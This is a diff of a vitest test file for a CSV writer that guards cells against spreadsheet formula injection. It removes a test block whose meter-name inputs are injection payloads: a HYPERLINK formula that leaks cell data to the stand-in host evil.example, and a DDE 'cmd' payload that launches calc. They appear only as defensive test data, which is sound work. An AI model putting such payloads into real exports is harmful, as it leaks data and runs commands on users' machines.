@@ -1,14 +1,10 @@
 /**
  * The one CSV writer: RFC 4180 quoting, text cells guarded against spreadsheet formulas (OWASP's list),
- * numbers left numbers; and every export of the Core written with it, meters included (their names come
- * from the controller).
+ * numbers left numbers. The Core's exports written with it are tested in their rooms
+ * (test/core/activity/activity-export.test.ts, test/core/meters/meter-history.test.ts).
  */
 import { describe, expect, it } from 'vitest';
-import type { ActivityEntry, MeterReading } from '../../src-preload/model';
 import { csvDocument, csvField, utcCell } from '../../src-main/shared/csv';
-import { activityCsv } from '../../src-main/core/fleet-csv';
-import { meterCsv } from '../../src-main/core/meter-csv';
-import { MeterSeries } from '../../src-main/core/meter-history';
 
 describe('the CSV writer', () => {
   it('guards every text cell a spreadsheet would run as a formula, and nothing else', () => {
@@ -37,51 +33,5 @@ describe('the CSV writer', () => {
     expect(utcCell(null)).toBe('');
     expect(utcCell(9e15)).toBe('');
     expect(utcCell(Number.NaN)).toBe('');
-  });
-});
-
-describe('the exports', () => {
-  it('meters: a name the controller sent is never a formula, and negative readings stay numbers', () => {
-    const series = new MeterSeries();
-    const meter = (key: string, name: string, value: number): MeterReading => ({
-      key,
-      name,
-      quantity: 'other',
-      bus: null,
-      value,
-      unit: '',
-    });
-    series.add(Date.UTC(2024, 4, 1, 10, 0, 0), [
-      meter('a', '=HYPERLINK("http://evil.example/?"&A2,"click")', -3.2),
-      meter('b', "@SUM(1+9)*cmd|' /C calc'!A0", 5),
-      meter('c', '-2+3', -0.5),
-    ]);
-    const [header, row] = meterCsv(series).split('\r\n');
-    expect(header).toBe(
-      `time,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'@SUM(1+9)*cmd|' /C calc'!A0,'-2+3`,
-    );
-    expect(row).toBe('2024-05-01T10:00:00.000Z,-3.2,5,-0.5');
-  });
-
-  it('activity: every text cell is guarded, numbers (outlet, batch, count) are not', () => {
-    const entry: ActivityEntry = {
-      id: 7,
-      time: Date.UTC(2026, 10, 24, 8, 0, 0),
-      controllerId: 'c1',
-      controllerName: '=Bench',
-      outlet: 3,
-      action: '+on',
-      source: 'pdudaemon-tcp',
-      who: '@client',
-      result: 'error',
-      error: { code: 'RESERVED', message: '-reserved' },
-      outletName: '=Router',
-      batch: 7,
-      count: 12,
-      lastTime: Date.UTC(2026, 10, 24, 8, 0, 30),
-    };
-    expect(activityCsv([entry]).split('\r\n')[1]).toBe(
-      "2026-11-24T08:00:00.000Z,'=Bench,3,'+on,pdudaemon-tcp,'@client,error,RESERVED,'-reserved,'=Router,7,12,2026-11-24T08:00:30.000Z",
-    );
   });
 });
